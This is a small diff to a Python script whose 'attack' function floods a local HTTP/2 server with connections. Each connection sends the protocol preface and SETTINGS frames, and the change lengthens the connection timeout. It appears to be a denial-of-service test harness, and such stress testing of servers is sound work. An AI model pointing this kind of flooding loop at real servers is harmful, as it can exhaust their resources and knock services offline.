@@ -47,7 +47,7 @@ def drain(connection: socket.socket) -> None:
 def attack(port: int, seconds: float) -> int:
     block, opened, end = head(), 0, time.monotonic() + seconds
     while time.monotonic() < end:
-        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
+        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
             connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
             connection.sendall(frame(SETTINGS, SETTINGS_ACK, 0))
             threading.Thread(target=drain, args=(connection,), daemon=True).start()
